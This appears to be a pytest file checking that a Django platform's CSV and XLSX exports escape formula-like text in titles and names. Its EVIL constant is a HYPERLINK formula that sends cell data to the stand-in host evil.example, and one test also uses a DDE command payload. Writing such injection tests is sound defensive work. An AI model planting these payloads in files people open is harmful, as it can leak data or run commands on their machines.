"""Every XLSX and CSV the platform writes keeps a formula-like text as text.

An objective's title, a body's or a unit's name can be `=HYPERLINK("https://evil.example/?"&A1)`:
opened in a spreadsheet it must show as that text, never run. One helper (core/exports.py) writes
every cell; each export is attacked here with such a name."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

from django.utils import timezone
from openpyxl import Workbook, load_workbook

from agilepa.core.exports import append_row, csv_writer, safe_cell
from agilepa.indicators import opendata
from agilepa.objectives import transfer
from agilepa.objectives.models import Objective
from agilepa.planning.exports import plan_xlsx
from agilepa.planning.models import MonthPlan
from agilepa.spaces.models import Booking
from tests.objectives.helpers import access_of, make_objective
from tests.spaces.test_booking import make_hub

EVIL = '=HYPERLINK("https://evil.example/?"&A1,"Apri")'


def cells(content: bytes) -> list[tuple[object, str]]:
    """Every non-empty cell of every sheet, with its openpyxl type (f = formula, s = text)."""
    book = load_workbook(io.BytesIO(content))
    return [
        (cell.value, cell.data_type)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def assert_kept_as_text(content: bytes) -> None:
    found = cells(content)
    assert (EVIL, "s") in found
    assert [c for c in found if c[1] == "f"] == []


def test_a_csv_cell_starting_with_a_formula_sign_gets_an_apostrophe() -> None:
    for text in (EVIL, "+SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1"):
        assert safe_cell(text) == "'" + text
    assert safe_cell("-3") == "-3"  # a number, not a formula
    assert safe_cell("-0,5") == "-0,5"
    assert safe_cell(-3) == -3
    assert safe_cell("Comune di Roma") == "Comune di Roma"


def test_the_csv_writer_neutralises_every_row() -> None:
    out = io.StringIO()
    csv_writer(out, delimiter=";").writerows([["Ente", EVIL], ["x", "-3"]])
    assert list(csv.reader(io.StringIO(out.getvalue()), delimiter=";")) == [
        ["Ente", "'" + EVIL],
        ["x", "-3"],
    ]


def test_an_xlsx_row_keeps_a_formula_like_text_as_a_text_cell() -> None:
    book = Workbook()
    append_row(book.active, [EVIL, "+1", -3])
    out = io.BytesIO()
    book.save(out)
    assert cells(out.getvalue()) == [(EVIL, "s"), ("+1", "s"), (-3, "n")]


def test_the_open_data_csv_keeps_a_body_name_as_text() -> None:
    row = dict.fromkeys((f[0] for f in opendata.FIELDS), "")
    row.update(body_name=EVIL, value=1)
    text = opendata.as_csv([row])
    assert "'" + EVIL.replace('"', '""') in text


def test_the_objectives_export_keeps_a_title_as_text(world) -> None:
    hr = access_of(world)
    objective = make_objective(hr, "OB-1", world.a.manager_person, unit=world.a.area)
    objective.title = EVIL
    objective.save(update_fields=["title"])
    chosen = Objective.objects.filter(pk=objective.pk)
    assert_kept_as_text(transfer.export_xlsx(transfer.exported_objectives(chosen)))


def test_the_plan_export_keeps_a_person_name_as_text(world) -> None:
    world.a.area.name = EVIL
    world.a.area.save(update_fields=["name"])
    plan = MonthPlan.objects.create(body=world.a.body, unit=world.a.area, year=2027, month=3)
    found = cells(plan_xlsx(plan))
    assert [c for c in found if c[1] == "f"] == []
    assert any(isinstance(v, str) and v.startswith(EVIL) for v, _t in found)


def test_the_occupancy_export_keeps_a_body_name_as_text(world, client_as) -> None:
    world.a.body.name = EVIL
    world.a.body.save(update_fields=["name"])
    hub = make_hub(world.a.body, seats=2)
    seat = hub.seats.first()
    Booking.objects.create(
        hub=hub,
        seat=seat,
        person=world.a.employee_person,
        date=timezone.localdate() - timedelta(days=1),
        status="checked_in",
        check_in_token="t".ljust(43, "x"),
    )
    client = client_as("hr_admin")
    xlsx = client.get(f"/b/{world.a.body.slug}/hubs/{hub.pk}/occupancy/?format=xlsx")
    assert_kept_as_text(xlsx.content)


def test_the_savings_export_keeps_a_unit_name_as_text(world) -> None:
    from agilepa.core.access import resolve_access
    from agilepa.measurement.exports import body_xlsx
    from agilepa.measurement.selectors import body_savings
    from tests.measurement.test_body_savings import _populate

    world.a.service.name = EVIL
    world.a.service.save(update_fields=["name"])
    _populate(world)
    result = body_savings(resolve_access(world.users["hr_admin"], world.a.body), 2027)
    assert_kept_as_text(body_xlsx(result))
